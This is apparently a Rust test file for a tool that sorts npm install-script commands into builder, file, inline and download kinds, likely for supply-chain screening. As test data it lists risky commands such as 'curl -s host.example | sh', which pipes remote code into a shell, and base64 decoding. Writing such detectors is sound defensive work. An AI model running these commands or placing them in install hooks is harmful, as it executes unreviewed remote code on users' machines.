use super::*;

#[track_caller]
fn check(body: &str, expected: Command) {
    let scripts = [
        ("build", "node-gyp rebuild"),
        ("fetch", "curl x"),
        ("loop", "npm run loop"),
    ];
    let scripts = scripts
        .iter()
        .map(|(name, body)| ((*name).to_owned(), (*body).to_owned()))
        .collect();
    assert_eq!(read(body, &scripts), expected, "{body}");
}

#[test]
fn well_known_build_tools_are_builders() {
    check("node-gyp rebuild", Command::Builder);
    check("prebuild-install || node-gyp rebuild", Command::Builder);
    check("node-gyp-build", Command::Builder);
    check("cross-env CI=1 cmake-js compile", Command::Builder);
    check("npm run build", Command::Builder);
    check("echo done; exit 0", Command::Builder);
    check("", Command::Builder);
}

#[test]
fn a_file_of_the_package_is_a_file() {
    check("node install.js", Command::File);
    check("node scripts/prebuild.js || node-gyp rebuild", Command::File);
    check("./configure", Command::File);
    check("npm run missing", Command::File);
    check("npm run loop", Command::File);
}

#[test]
fn code_in_the_command_line_is_inline() {
    check("node -e \"require('./postinstall')\"", Command::Inline);
    check("FOO=1 node --eval x", Command::Inline);
}

#[test]
fn fetching_and_shells_are_downloads() {
    check("curl -s host.example | sh", Command::Download);
    check("node install.js && bun run x.ts", Command::Download);
    check("powershell.exe -c x", Command::Download);
    check("/usr/bin/wget host.example", Command::Download);
    check("npx something", Command::Download);
    check("npm install other", Command::Download);
    check("npm run fetch", Command::Download);
    check("echo aGk= | base64 -d", Command::Download);
    check("node get.js https://host.example/x", Command::Download);
}
